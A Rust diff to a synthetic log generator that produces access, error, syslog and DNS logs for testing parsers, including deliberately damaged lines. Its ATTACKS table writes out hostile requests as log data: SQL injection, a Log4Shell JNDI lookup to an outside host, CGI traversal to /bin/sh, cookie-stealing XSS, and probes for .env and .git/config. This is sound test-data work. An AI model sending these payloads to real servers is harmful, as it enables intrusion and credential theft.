@@ -19,7 +19,8 @@
 //! `--jitter SECONDS` says so.
 //!
 //! What a damaged line looks like is chosen so that every careful reader agrees about it: it lacks a quote, a
-//! bracket or its head. A line that is cut where another, shorter format would end is not made.
+//! bracket or its head. A line that is cut where another, shorter format would end is not made. A damaged access log
+//! also holds whole lines whose requests forge the rest of a line; the clean one has escaped quotes, but none of those.
 
 use std::fs::File;
 use std::io::{self, Write};
@@ -73,14 +74,7 @@ struct Options {
 impl Options {
     fn from_args(mut args: impl Iterator<Item = String>) -> Result<Self, String> {
         let mut kind = None;
-        let mut options = Self {
-            kind: Kind::Access,
-            bytes: 1_000_000_000,
-            seed: 1,
-            broken_ppm: 0,
-            jitter_secs: 0,
-            output: None,
-        };
+        let mut options = Self { kind: Kind::Access, bytes: 1_000_000_000, seed: 1, broken_ppm: 0, jitter_secs: 0, output: None };
         while let Some(arg) = args.next() {
             let mut value = || args.next().ok_or_else(|| format!("`{arg}` needs a value"));
             match arg.as_str() {
@@ -102,8 +96,7 @@ impl Options {
 }
 
 fn parse_number(text: &str) -> Result<u64, String> {
-    text.parse()
-        .map_err(|_| format!("not a whole number: `{text}`"))
+    text.parse().map_err(|_| format!("not a whole number: `{text}`"))
 }
 
 /// `300`, `100M`, `1G`, `1Gi`.
@@ -119,9 +112,7 @@ fn parse_size(text: &str) -> Result<u64, String> {
         "Gi" => 1 << 30,
         _ => return Err(format!("not a size (as in `100M` or `1G`): `{text}`")),
     };
-    parse_number(digits)?
-        .checked_mul(unit)
-        .ok_or_else(|| format!("too large a size: `{text}`"))
+    parse_number(digits)?.checked_mul(unit).ok_or_else(|| format!("too large a size: `{text}`"))
 }
 
 /// `1%`, `0.5%` or `1`, in lines of a million.
@@ -140,32 +131,22 @@ fn write_log(options: &Options) -> io::Result<()> {
     };
     let mut rng = Rng::new(options.seed);
     let mut lines: Box<dyn Lines> = match options.kind {
-        Kind::Access => Box::new(Access::new(options.bytes, &mut rng)),
+        Kind::Access => Box::new(Access::new(options, &mut rng)),
         Kind::Error => Box::new(ErrorLog::new(options.bytes, &mut rng)),
         Kind::Syslog => Box::new(Syslog::new(&mut rng)),
         Kind::Dns => Box::new(Dns::new(options.bytes, &mut rng)),
     };
     let mut clock = Clock::new(lines.per_second());
-    let mut damage = Damage {
-        ppm: options.broken_ppm,
-        rng: Rng::new(options.seed ^ 0x0bad_11e5),
-    };
+    let mut damage = Damage { ppm: options.broken_ppm, rng: Rng::new(options.seed ^ 0x0bad_11e5) };
 
     let mut stamp = Vec::new();
     let mut block = Vec::with_capacity(BLOCK + 8192);
     let mut room = options.bytes;
     loop {
         if clock.tick(&mut rng) || options.jitter_secs > 0 {
-            let back = if options.jitter_secs > 0 {
-                rng.below(options.jitter_secs as u32 + 1)
-            } else {
-                0
-            };
+            let back = if options.jitter_secs > 0 { rng.below(options.jitter_secs as u32 + 1) } else { 0 };
             stamp.clear();
-            lines.stamp(
-                &Civil::from_unix(clock.second - u64::from(back)),
-                &mut stamp,
-            );
+            lines.stamp(&Civil::from_unix(clock.second - u64::from(back)), &mut stamp);
         }
         let start = block.len();
         let cuts = lines.line(&mut rng, &clock, &stamp, &mut block);
@@ -289,20 +270,11 @@ struct Clock {
 
 impl Clock {
     /// Load by hour of the day in percent of the average: quiet nights, a peak before noon and one in the evening.
-    const HOURS: [u32; 24] = [
-        52, 40, 33, 30, 32, 42, 62, 88, 112, 132, 142, 140, 128, 130, 136, 134, 126, 122, 126, 140,
-        148, 132, 102, 71,
-    ];
+    const HOURS: [u32; 24] =
+        [52, 40, 33, 30, 32, 42, 62, 88, 112, 132, 142, 140, 128, 130, 136, 134, 126, 122, 126, 140, 148, 132, 102, 71];
 
     fn new(per_second: u32) -> Self {
-        Self {
-            second: START - 1,
-            lines: 0,
-            done: 0,
-            per_second,
-            burst_until: 0,
-            burst_factor: 1,
-        }
+        Self { second: START - 1, lines: 0, done: 0, per_second, burst_until: 0, burst_factor: 1 }
     }
 
     /// Goes on by one line; true if a new second began.
@@ -321,13 +293,7 @@ impl Clock {
             let next = Self::HOURS[(hour + 1) % 24];
             let into = (self.second % 3600) as u32;
             let load = (Self::HOURS[hour] * (3600 - into) + next * into) / 3600;
-            let mean = self.per_second
-                * load
-                * if self.second <= self.burst_until {
-                    self.burst_factor
-                } else {
-                    1
-                };
+            let mean = self.per_second * load * if self.second <= self.burst_until { self.burst_factor } else { 1 };
             // From half the mean to one and a half of it; hundredths are rounded by chance.
             self.lines = (mean / 2 + rng.below(mean + 1) + rng.below(100)) / 100;
             self.done = 0;
@@ -353,9 +319,7 @@ struct Civil {
 }
 
 impl Civil {
-    const MONTHS: [&'static str; 12] = [
-        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
-    ];
+    const MONTHS: [&'static str; 12] = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
 
     fn from_unix(unix: u64) -> Self {
         let (mut days, second) = ((unix / DAY) as u32, (unix % DAY) as u32);
@@ -365,33 +329,13 @@ impl Civil {
             days -= 365 + u32::from(leap(year));
             year += 1;
         }
-        let lengths = [
-            31,
-            28 + u32::from(leap(year)),
-            31,
-            30,
-            31,
-            30,
-            31,
-            31,
-            30,
-            31,
-            30,
-            31,
-        ];
+        let lengths = [31, 28 + u32::from(leap(year)), 31, 30, 31, 30, 31, 31, 30, 31, 30, 31];
         let mut month = 0;
         while days >= lengths[month] {
             days -= lengths[month];
             month += 1;
         }
-        Self {
-            year,
-            month,
-            day: days + 1,
-            hour: second / 3600,
-            minute: second / 60 % 60,
-            second: second % 60,
-        }
+        Self { year, month, day: days + 1, hour: second / 3600, minute: second / 60 % 60, second: second % 60 }
     }
 
     fn name(&self) -> &'static str {
@@ -449,13 +393,12 @@ impl Text for Vec<u8> {
 }
 
 const WORDS: [&str; 64] = [
-    "winter", "summer", "garden", "kitchen", "wooden", "classic", "modern", "outdoor", "cotton",
-    "leather", "blue", "green", "silver", "compact", "travel", "family", "coffee", "table",
-    "chair", "lamp", "jacket", "boots", "camera", "guitar", "bicycle", "desk", "shelf", "carpet",
-    "bottle", "knife", "printer", "router", "monitor", "keyboard", "phone", "tablet", "watch",
-    "backpack", "tent", "blanket", "mirror", "candle", "basket", "bucket", "ladder", "hammer",
-    "battery", "charger", "cable", "speaker", "headset", "novel", "puzzle", "poster", "frame",
-    "plant", "vase", "curtain", "pillow", "towel", "soap", "brush", "scarf", "gloves",
+    "winter", "summer", "garden", "kitchen", "wooden", "classic", "modern", "outdoor", "cotton", "leather", "blue", "green",
+    "silver", "compact", "travel", "family", "coffee", "table", "chair", "lamp", "jacket", "boots", "camera", "guitar",
+    "bicycle", "desk", "shelf", "carpet", "bottle", "knife", "printer", "router", "monitor", "keyboard", "phone", "tablet",
+    "watch", "backpack", "tent", "blanket", "mirror", "candle", "basket", "bucket", "ladder", "hammer", "battery", "charger",
+    "cable", "speaker", "headset", "novel", "puzzle", "poster", "frame", "plant", "vase", "curtain", "pillow", "towel", "soap",
+    "brush", "scarf", "gloves",
 ];
 
 fn word(hash: u64, nth: u32) -> &'static str {
@@ -463,37 +406,30 @@ fn word(hash: u64, nth: u32) -> &'static str {
 }
 
 fn push_slug(out: &mut Vec<u8>, hash: u64) {
-    out.text(word(hash, 0))
-        .text("-")
-        .text(word(hash, 1))
-        .text("-")
-        .text(word(hash, 2));
+    out.text(word(hash, 0)).text("-").text(word(hash, 1)).text("-").text(word(hash, 2));
 }
 
-/// The address that belongs to a number: one in eight is IPv6.
+/// The address that belongs to a number: one in eight is IPv6, written as RFC 5952 wants it.
 fn push_address(out: &mut Vec<u8>, hash: u64) {
     if hash & 7 == 0 {
-        out.text("2a0")
-            .hex(hash >> 8, 1)
-            .text(":")
-            .hex(hash >> 12, 3)
-            .text(":");
+        let group = |out: &mut Vec<u8>, bits: u64| {
+            let bits = (bits & 0xffff).max(1);
+            out.push(b':');
+            out.hex(bits, (bits.ilog2() / 4) + 1);
+        };
+        out.text("2a0").hex(hash >> 8, 1);
+        group(out, hash >> 12 & 0xfff);
+        group(out, hash >> 24);
         // Some are from an address plan, most chosen by the machine itself.
         if hash >> 3 & 3 == 0 {
-            out.hex(hash >> 24, 4).text("::").hex(hash >> 40 | 1, 2);
+            out.push(b':');
+            group(out, hash >> 40 & 0xff);
         } else {
+            group(out, hash >> 40);
             let host = mix(hash);
-            out.hex(hash >> 24, 4)
-                .text(":")
-                .hex(hash >> 40, 4)
-                .text(":")
-                .hex(host, 4)
-                .text(":");
-            out.hex(host >> 16, 4)
-                .text(":")
-                .hex(host >> 32, 4)
-                .text(":")
-                .hex(host >> 48, 4);
+            for shift in [0, 16, 32, 48] {
+                group(out, host >> shift);
+            }
         }
         return;
     }
@@ -502,11 +438,7 @@ fn push_address(out: &mut Vec<u8>, hash: u64) {
         high @ 224..=255 => high - 140,
         other => other,
     };
-    out.number(u64::from(first))
-        .text(".")
-        .number(hash >> 16 & 255)
-        .text(".")
-        .number(hash >> 24 & 255);
+    out.number(u64::from(first)).text(".").number(hash >> 16 & 255).text(".").number(hash >> 24 & 255);
     out.text(".").number(hash >> 32 & 255);
 }
 
@@ -534,9 +466,7 @@ impl Damage {
         let head = start + 1 + self.rng.below(cuts.head as u32 - 1) as usize;
         match (self.rng.below(8), cuts.tail) {
             // A disk that was full, a program that was killed.
-            (0 | 1, Some(tail)) => {
-                block.truncate(start + tail + self.rng.below((length - tail) as u32) as usize)
-            }
+            (0 | 1, Some(tail)) => block.truncate(start + tail + self.rng.below((length - tail) as u32) as usize),
             (0..=3, _) => block.truncate(head),
             // Two writers without a lock: the first part of one line, and a whole other one.
             (4, tail) => {
@@ -554,11 +484,7 @@ impl Damage {
                 block.truncate(start);
                 for _ in 0..8 + self.rng.below(120) {
                     let byte = self.rng.below(256) as u8;
-                    block.push(if matches!(byte, b'\n' | b'\r' | b'"' | b' ') {
-                        b'#'
-                    } else {
-                        byte
-                    });
+                    block.push(if matches!(byte, b'\n' | b'\r' | b'"' | b' ') { b'#' } else { byte });
                 }
             }
             _ => {
@@ -580,6 +506,8 @@ struct Access {
     /// Who is on the site now. A line comes from one of them, so clients come in runs as they do in life.
     visits: Vec<Visit>,
     salt: u64,
+    /// How many of `ATTACKS` are tried.
+    attacks: usize,
 }
 
 struct Visit {
@@ -653,46 +581,28 @@ const ATTACK_AGENTS: [&str; 8] = [
 ];
 
 /// Requests of people with bad intentions, as the servers log them: nginx writes a quote as `\x22`, Apache as `\"`.
-const ATTACKS: [(&str, u32); 18] = [
-    (
-        "GET /index.php?id=1%27%20UNION%20SELECT%201,2,table_name%20FROM%20information_schema.tables--%20- HTTP/1.1",
-        404,
-    ),
+const ATTACKS: [(&str, u32); 20] = [
+    ("GET /index.php?id=1%27%20UNION%20SELECT%201,2,table_name%20FROM%20information_schema.tables--%20- HTTP/1.1", 404),
     ("GET /product?id=7' OR '1'='1 HTTP/1.1", 400),
     ("GET /?x=${jndi:ldap://198.51.100.7:1389/a} HTTP/1.1", 200),
     ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", 400),
-    (
-        "POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh HTTP/1.1",
-        400,
-    ),
-    (
-        r#"GET /search?q=\"><script>alert(document.cookie)</script> HTTP/1.1"#,
-        200,
-    ),
-    (
-        r"GET /search?q=\x22><img src=x onerror=alert(1)> HTTP/1.1",
-        400,
-    ),
-    (
-        r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03\xB8\x9D\x0E\x7F\xA1\x5C\x22\x91",
-        400,
-    ),
+    ("POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh HTTP/1.1", 400),
+    (r#"GET /search?q=\"><script>alert(document.cookie)</script> HTTP/1.1"#, 200),
+    (r"GET /search?q=\x22><img src=x onerror=alert(1)> HTTP/1.1", 400),
+    (r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03\xB8\x9D\x0E\x7F\xA1\x5C\x22\x91", 400),
     (r"\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03", 400),
-    (
-        r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
-        400,
-    ),
+    (r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr", 400),
     ("GET /.env HTTP/1.1", 404),
     ("GET /.git/config HTTP/1.1", 404),
     ("GET /wp-login.php HTTP/1.1", 404),
     ("POST /xmlrpc.php HTTP/1.1", 404),
-    (
-        "GET /boaform/admin/formLogin?username=ec8&psd=ec8 HTTP/1.0",
-        404,
-    ),
+    ("GET /boaform/admin/formLogin?username=ec8&psd=ec8 HTTP/1.0", 404),
     ("CONNECT 198.51.100.20:443 HTTP/1.1", 405),
     ("PRI * HTTP/2.0", 400),
     (r#"GET /%5C\"\\ HTTP/1.1"#, 404),
+    // From here on only in damaged logs: requests that look like the rest of a line.
+    (r#"GET /search?q=\" 200 1024 \"-\" \"bingbot\" HTTP/1.1"#, 404),
+    (r#"GET /\" 500 0 HTTP/1.1"#, 400),
 ];
 
 const OUTSIDE_REFERERS: [&str; 6] = [
@@ -710,9 +620,9 @@ impl Access {
     /// Lines in 1 GB, about.
     const LINES_PER_GB: u64 = 4_500_000;
 
-    fn new(bytes: u64, rng: &mut Rng) -> Self {
+    fn new(options: &Options, rng: &mut Rng) -> Self {
         // More of the world comes by in a longer log. The factor gives about 340 k clients in 1 GB.
-        let lines = (bytes / 1000 * Self::LINES_PER_GB / 1_000_000).max(1000);
+        let lines = (options.bytes / 1000 * Self::LINES_PER_GB / 1_000_000).max(1000);
         let mut access = Self {
             clients: Zipf::new((lines * 47 / 100) as u32),
             pages: Zipf::new((lines / 20) as u32),
@@ -720,6 +630,7 @@ impl Access {
             browsers: browsers(),
             visits: Vec::new(),
             salt: rng.next(),
+            attacks: if options.broken_ppm > 0 { ATTACKS.len() } else { ATTACKS.len() - 2 },
         };
         for _ in 0..512 {
             let visit = access.arrive(rng, Vec::new());
@@ -753,11 +664,7 @@ impl Access {
         address.clear();
         match (who, agent) {
             (Who::Bot, 0 | 2) => {
-                address
-                    .text("66.249.")
-                    .number(64 + (hash >> 8 & 15))
-                    .text(".")
-                    .number(hash >> 16 & 255);
+                address.text("66.249.").number(64 + (hash >> 8 & 15)).text(".").number(hash >> 16 & 255);
             }
             (Who::Bot, 1 | 3) => {
                 address.text("157.55.39.").number(hash >> 8 & 255);
@@ -769,19 +676,8 @@ impl Access {
             1 => "deploy",
             _ => "-",
         };
-        let left = if matches!(who, Who::Browser | Who::App) {
-            1 + rng.below(7)
-        } else {
-            1 + rng.below(2)
-        };
-        Visit {
-            address,
-            user,
-            who,
-            agent,
-            page: u32::MAX,
-            left,
-        }
+        let left = if matches!(who, Who::Browser | Who::App) { 1 + rng.below(7) } else { 1 + rng.below(2) };
+        Visit { address, user, who, agent, page: u32::MAX, left }
     }
 
     fn push_page(&self, out: &mut Vec<u8>, page: u32) {
@@ -790,9 +686,7 @@ impl Access {
             0 => out.text("/"),
             1..16 => out.text("/").text(WORDS[page as usize]).text("/"),
             _ if hash >> 60 < 5 => {
-                out.text("/blog/2026/")
-                    .padded((hash >> 50 & 7) as u32 + 1, 2)
-                    .text("/");
+                out.text("/blog/2026/").padded((hash >> 50 & 7) as u32 + 1, 2).text("/");
                 push_slug(out, hash);
                 out.text("-").number(u64::from(page))
             }
@@ -809,24 +703,9 @@ impl Access {
         match asset {
             0 => out.text("/favicon.ico"),
             1 => out.text("/static/css/main.").hex(hash, 8).text(".css"),
-            2..40 => out
-                .text("/static/js/")
-                .text(word(hash, 0))
-                .text(".")
-                .hex(hash >> 8, 8)
-                .text(".js"),
-            40..60 => out
-                .text("/static/fonts/")
-                .text(word(hash, 0))
-                .text(".woff2"),
-            _ => out
-                .text("/media/cache/")
-                .hex(hash, 2)
-                .text("/")
-                .text(word(hash, 1))
-                .text("_")
-                .hex(hash >> 16, 6)
-                .text(".webp"),
+            2..40 => out.text("/static/js/").text(word(hash, 0)).text(".").hex(hash >> 8, 8).text(".js"),
+            40..60 => out.text("/static/fonts/").text(word(hash, 0)).text(".woff2"),
+            _ => out.text("/media/cache/").hex(hash, 2).text("/").text(word(hash, 1)).text("_").hex(hash >> 16, 6).text(".webp"),
         };
     }
 
@@ -841,11 +720,7 @@ impl Access {
                 .text("&page=")
                 .number(1 + (random >> 12 & 15))
                 .text("&sort=")
-                .text(if random >> 16 & 1 == 0 {
-                    "price"
-                } else {
-                    "new"
-                }),
+                .text(if random >> 16 & 1 == 0 { "price" } else { "new" }),
             6..10 => out
                 .text("/api/v2/items/")
                 .number(random >> 8 & 0xf_ffff)
@@ -865,11 +740,7 @@ impl Access {
                 .text(&word(random, 3)[..3])
                 .text("&s=")
                 .hex(random >> 24, 6),
-            _ => out
-                .text("/t/p.gif?u=")
-                .hex(random, 14)
-                .text("&r=%2Fshop%2F")
-                .text(word(random, 5)),
+            _ => out.text("/t/p.gif?u=").hex(random, 14).text("&r=%2Fshop%2F").text(word(random, 5)),
         };
     }
 }
@@ -880,19 +751,8 @@ impl Lines for Access {
     }
 
     fn stamp(&self, time: &Civil, out: &mut Vec<u8>) {
-        out.text(" [")
-            .padded(time.day, 2)
-            .text("/")
-            .text(time.name())
-            .text("/")
-            .number(u64::from(time.year))
-            .text(":");
-        out.padded(time.hour, 2)
-            .text(":")
-            .padded(time.minute, 2)
-            .text(":")
-            .padded(time.second, 2)
-            .text(" +0000] \"");
+        out.text(" [").padded(time.day, 2).text("/").text(time.name()).text("/").number(u64::from(time.year)).text(":");
+        out.padded(time.hour, 2).text(":").padded(time.minute, 2).text(":").padded(time.second, 2).text(" +0000] \"");
     }
 
     fn line(&mut self, rng: &mut Rng, _clock: &Clock, stamp: &[u8], out: &mut Vec<u8>) -> Cuts {
@@ -918,7 +778,7 @@ impl Lines for Access {
         let (mut size, mut page) = (0, from);
         let mut referer = Referer::Page;
         if who == Who::Attacker && chance < 900 {
-            let (request, answer) = ATTACKS[(random >> 10) as usize % ATTACKS.len()];
+            let (request, answer) = ATTACKS[(random >> 10) as usize % self.attacks];
             out.text(request);
             (status, size, referer) = (answer, 150 + (random >> 20 & 511), Referer::None);
         } else if who != Who::Bot && chance < 5 {
@@ -948,11 +808,7 @@ impl Lines for Access {
                 self.push_query(out, rng.next());
                 size = rng.size(3);
             }
-            out.text(if who == Who::Browser && random >> 26 & 3 != 0 {
-                " HTTP/2.0"
-            } else {
-                " HTTP/1.1"
-            });
+            out.text(if who == Who::Browser && random >> 26 & 3 != 0 { " HTTP/2.0" } else { " HTTP/1.1" });
             status = match random >> 28 & 0x3ff {
                 0..790 => 200,
                 790..855 => 304,
@@ -1010,10 +866,7 @@ impl Lines for Access {
         });
         out.push(b'"');
         self.visits[seat].page = page;
-        Cuts {
-            head,
-            tail: Some(tail),
-        }
+        Cuts { head, tail: Some(tail) }
     }
 }
 
@@ -1029,21 +882,13 @@ fn browsers() -> Vec<String> {
     let engine = "AppleWebKit/537.36 (KHTML, like Gecko)";
     for back in 0..12 {
         let chrome = 145 - back;
-        for system in [
-            "Windows NT 10.0; Win64; x64",
-            "Macintosh; Intel Mac OS X 10_15_7",
-            "X11; Linux x86_64",
-        ] {
+        for system in ["Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64"] {
             // New versions are seen more than old ones.
             for _ in 0..(12 - back) / 4 + 1 {
-                all.push(format!(
-                    "Mozilla/5.0 ({system}) {engine} Chrome/{chrome}.0.0.0 Safari/537.36"
-                ));
+                all.push(format!("Mozilla/5.0 ({system}) {engine} Chrome/{chrome}.0.0.0 Safari/537.36"));
             }
             let firefox = chrome + 3;
-            all.push(format!(
-                "Mozilla/5.0 ({system}; rv:{firefox}.0) Gecko/20100101 Firefox/{firefox}.0"
-            ));
+            all.push(format!("Mozilla/5.0 ({system}; rv:{firefox}.0) Gecko/20100101 Firefox/{firefox}.0"));
         }
         all.push(format!(
             "Mozilla/5.0 (Windows NT 10.0; Win64; x64) {engine} Chrome/{chrome}.0.0.0 Safari/537.36 Edg/{chrome}.0.0.0"
@@ -1080,12 +925,7 @@ struct ErrorLog {
 impl ErrorLog {
     fn new(bytes: u64, rng: &mut Rng) -> Self {
         let workers = std::array::from_fn(|_| 900 + u64::from(rng.below(30_000)));
-        Self {
-            clients: Zipf::new((bytes / 20_000).max(500) as u32),
-            salt: rng.next(),
-            workers,
-            connection: 1,
-        }
+        Self { clients: Zipf::new((bytes / 20_000).max(500) as u32), salt: rng.next(), workers, connection: 1 }
     }
 
     fn push_path(&self, out: &mut Vec<u8>, hash: u64) {
@@ -1101,18 +941,8 @@ impl Lines for ErrorLog {
     }
 
     fn stamp(&self, time: &Civil, out: &mut Vec<u8>) {
-        out.number(u64::from(time.year))
-            .text("/")
-            .padded(time.month as u32 + 1, 2)
-            .text("/")
-            .padded(time.day, 2);
-        out.text(" ")
-            .padded(time.hour, 2)
-            .text(":")
-            .padded(time.minute, 2)
-            .text(":")
-            .padded(time.second, 2)
-            .text(" [");
+        out.number(u64::from(time.year)).text("/").padded(time.month as u32 + 1, 2).text("/").padded(time.day, 2);
+        out.text(" ").padded(time.hour, 2).text(":").padded(time.minute, 2).text(":").padded(time.second, 2).text(" [");
     }
 
     fn line(&mut self, rng: &mut Rng, _clock: &Clock, stamp: &[u8], out: &mut Vec<u8>) -> Cuts {
@@ -1129,28 +959,15 @@ impl Lines for ErrorLog {
             _ => "emerg",
         };
         let worker = self.workers[(random >> 10 & 3) as usize];
-        out.text(level)
-            .text("] ")
-            .number(worker)
-            .text("#")
-            .number(worker)
-            .text(": ");
-        let cuts = Cuts {
-            head: stamp.len(),
-            tail: None,
-        };
+        out.text(level).text("] ").number(worker).text("#").number(worker).text(": ");
+        let cuts = Cuts { head: stamp.len(), tail: None };
 
         // What concerns the server and no request has no context.
         if kind >= 900 && kind < 960 {
             match random >> 12 & 3 {
-                0 => out
-                    .text("signal 17 (SIGCHLD) received from ")
-                    .number(worker + 7),
+                0 => out.text("signal 17 (SIGCHLD) received from ").number(worker + 7),
                 1 => out.text("start worker process ").number(worker + 11),
-                2 => out
-                    .text("worker process ")
-                    .number(worker)
-                    .text(" exited with code 0"),
+                2 => out.text("worker process ").number(worker).text(" exited with code 0"),
                 _ => out.text("using the \"epoll\" event method"),
             };
             return cuts;
@@ -1187,15 +1004,10 @@ impl Lines for ErrorLog {
                 upstream = Some("http://127.0.0.1:8080");
             }
             ("error", 6) => {
-                out.text(
-                    "FastCGI sent in stderr: \"PHP message: PHP Warning:  Undefined array key \"",
-                )
-                .text(word(hash, 7));
+                out.text("FastCGI sent in stderr: \"PHP message: PHP Warning:  Undefined array key \"").text(word(hash, 7));
                 out.text("\" in /var/www/html");
                 self.push_path(out, hash);
-                out.text(" on line ")
-                    .number(hash >> 50 & 1023)
-                    .text("\" while reading response header from upstream");
+                out.text(" on line ").number(hash >> 50 & 1023).text("\" while reading response header from upstream");
                 upstream = Some("fastcgi://unix:/run/php/php8.2-fpm.sock:");
             }
             ("error", _) => {
@@ -1231,20 +1043,12 @@ impl Lines for ErrorLog {
         out.text(", client: ");
         push_address(out, mix(self.salt ^ u64::from(self.clients.draw(rng))));
         out.text(", server: www.example.com, request: \"");
-        out.text(if random >> 20 & 15 == 0 {
-            "POST "
-        } else {
-            "GET "
-        });
+        out.text(if random >> 20 & 15 == 0 { "POST " } else { "GET " });
         self.push_path(out, hash);
         if random >> 24 & 63 == 0 {
             out.text("?q=\"><script>alert(1)</script>");
         }
-        out.text(if random >> 30 & 1 == 0 {
-            " HTTP/2.0\""
-        } else {
-            " HTTP/1.1\""
-        });
+        out.text(if random >> 30 & 1 == 0 { " HTTP/2.0\"" } else { " HTTP/1.1\"" });
         if let Some(upstream) = upstream {
             out.text(", upstream: \"").text(upstream);
             if upstream.starts_with("http:") {
@@ -1272,18 +1076,11 @@ struct Syslog {
 }
 
 const HOSTS: [&str; 6] = ["web1", "web2", "db1", "mail", "gw", "ns1.example.com"];
-const USERS: [&str; 10] = [
-    "root", "admin", "alice", "deploy", "postgres", "oracle", "test", "ubuntu", "git", "backup",
-];
+const USERS: [&str; 10] = ["root", "admin", "alice", "deploy", "postgres", "oracle", "test", "ubuntu", "git", "backup"];
 
 impl Syslog {
     fn new(rng: &mut Rng) -> Self {
-        Self {
-            programs: Zipf::new(24),
-            clients: Zipf::new(20_000),
-            salt: rng.next(),
-            uptime_us: 4_711_000_000,
-        }
+        Self { programs: Zipf::new(24), clients: Zipf::new(20_000), salt: rng.next(), uptime_us: 4_711_000_000 }
     }
 
     fn push_client(&self, rng: &mut Rng, out: &mut Vec<u8>) {
@@ -1297,23 +1094,14 @@ impl Lines for Syslog {
     }
 
     fn stamp(&self, time: &Civil, out: &mut Vec<u8>) {
-        out.text(time.name())
-            .text(if time.day < 10 { "  " } else { " " })
-            .number(u64::from(time.day))
-            .text(" ");
-        out.padded(time.hour, 2)
-            .text(":")
-            .padded(time.minute, 2)
-            .text(":")
-            .padded(time.second, 2)
-            .text(" ");
+        out.text(time.name()).text(if time.day < 10 { "  " } else { " " }).number(u64::from(time.day)).text(" ");
+        out.padded(time.hour, 2).text(":").padded(time.minute, 2).text(":").padded(time.second, 2).text(" ");
     }
 
     fn line(&mut self, rng: &mut Rng, clock: &Clock, stamp: &[u8], out: &mut Vec<u8>) -> Cuts {
         out.extend_from_slice(stamp);
         let random = rng.next();
-        out.text(HOSTS[(random & 0xff) as usize * HOSTS.len() / 256])
-            .text(" ");
+        out.text(HOSTS[(random & 0xff) as usize * HOSTS.len() / 256]).text(" ");
         let pid = 400 + (random >> 8 & 0x7fff);
         let user = USERS[(random >> 24) as usize % USERS.len()];
         let number = random >> 32 & 0xffff;
@@ -1323,13 +1111,9 @@ impl Lines for Syslog {
                 out.text("sshd[").number(pid).text("]: ");
                 match random >> 50 & 7 {
                     0..3 => {
-                        out.text("Failed password for invalid user ")
-                            .text(user)
-                            .text(" from ");
+                        out.text("Failed password for invalid user ").text(user).text(" from ");
                         self.push_client(rng, out);
-                        out.text(" port ")
-                            .number(1024 + (number >> 1))
-                            .text(" ssh2");
+                        out.text(" port ").number(1024 + (number >> 1)).text(" ssh2");
                     }
                     3 | 4 => {
                         out.text("Invalid user ").text(user).text(" from ");
@@ -1337,9 +1121,7 @@ impl Lines for Syslog {
                         out.text(" port ").number(1024 + (number >> 1));
                     }
                     5 => {
-                        out.text("Accepted publickey for ")
-                            .text(user)
-                            .text(" from ");
+                        out.text("Accepted publickey for ").text(user).text(" from ");
                         self.push_client(rng, out);
                         out.text(" port ")
                             .number(1024 + (number >> 1))
@@ -1350,9 +1132,7 @@ impl Lines for Syslog {
                     6 => {
                         out.text("Received disconnect from ");
                         self.push_client(rng, out);
-                        out.text(" port ")
-                            .number(1024 + (number >> 1))
-                            .text(":11: Bye Bye [preauth]");
+                        out.text(" port ").number(1024 + (number >> 1)).text(":11: Bye Bye [preauth]");
                     }
                     _ => {
                         out.text("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=");
@@ -1363,16 +1143,10 @@ impl Lines for Syslog {
             }
             1 => {
                 self.uptime_us += random >> 52;
-                out.text("kernel: [")
-                    .number(self.uptime_us / 1_000_000)
-                    .text(".")
-                    .padded((self.uptime_us % 1_000_000) as u32, 6);
-                out.text(
-                    "] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC=",
-                );
+                out.text("kernel: [").number(self.uptime_us / 1_000_000).text(".").padded((self.uptime_us % 1_000_000) as u32, 6);
+                out.text("] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC=");
                 self.push_client(rng, out);
-                out.text(" DST=192.0.2.10 LEN=40 TOS=0x00 PREC=0x00 TTL=")
-                    .number(40 + (number & 15));
+                out.text(" DST=192.0.2.10 LEN=40 TOS=0x00 PREC=0x00 TTL=").number(40 + (number & 15));
                 out.text(" ID=")
                     .number(number)
                     .text(" PROTO=TCP SPT=")
@@ -1380,16 +1154,10 @@ impl Lines for Syslog {
                     .text(" DPT=23 WINDOW=1024 RES=0x00 SYN URGP=0");
             }
             2 => {
-                out.text("CRON[")
-                    .number(pid)
-                    .text("]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)");
+                out.text("CRON[").number(pid).text("]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)");
             }
             3 => {
-                out.text("systemd[1]: ").text(if number & 1 == 0 {
-                    "Started "
-                } else {
-                    "Finished "
-                });
+                out.text("systemd[1]: ").text(if number & 1 == 0 { "Started " } else { "Finished " });
                 out.text(word(other, 0))
                     .text("-")
                     .text(word(other, 1))
@@ -1398,23 +1166,13 @@ impl Lines for Syslog {
                     .text(" job.");
             }
             4 => {
-                out.text("named[")
-                    .number(812)
-                    .text("]: client @0x7f")
-                    .hex(other, 10)
-                    .text(" ");
+                out.text("named[").number(812).text("]: client @0x7f").hex(other, 10).text(" ");
                 self.push_client(rng, out);
-                out.text("#")
-                    .number(1024 + (number >> 1))
-                    .text(" (")
-                    .text(word(other, 6))
-                    .text(".example.net): query (cache) '");
+                out.text("#").number(1024 + (number >> 1)).text(" (").text(word(other, 6)).text(".example.net): query (cache) '");
                 out.text(word(other, 6)).text(".example.net/A/IN' denied");
             }
             5 => {
-                out.text("postfix/smtpd[")
-                    .number(pid)
-                    .text("]: connect from unknown[");
+                out.text("postfix/smtpd[").number(pid).text("]: connect from unknown[");
                 self.push_client(rng, out);
                 out.text("]");
             }
